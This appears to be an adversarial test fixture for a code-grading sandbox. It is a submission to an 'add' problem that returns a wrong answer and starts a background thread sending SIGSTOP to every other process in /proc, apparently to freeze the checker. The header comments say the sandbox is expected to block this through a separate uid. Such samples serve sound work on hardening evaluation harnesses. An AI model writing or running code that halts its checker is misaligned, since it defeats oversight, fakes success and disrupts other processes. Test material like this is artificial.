# class: forgery
# want: wrong
# problem: add
# what: answers wrongly at once, then tries to stop the process that checks it
# stops: a uid of its own
import os
import signal
import threading


def attack():
    while True:
        for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    pass


threading.Thread(target=attack, daemon=True).start()


def add(a, b):
    return None
